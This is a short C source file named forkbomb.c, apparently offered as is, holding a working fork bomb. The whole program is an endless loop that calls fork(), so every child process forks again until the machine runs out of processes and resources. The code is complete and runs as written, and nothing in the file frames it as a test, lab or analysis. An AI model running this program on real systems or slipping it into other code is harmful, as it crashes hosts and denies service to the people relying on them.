/* forkbomb.c — forks without end; every child forks too. */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
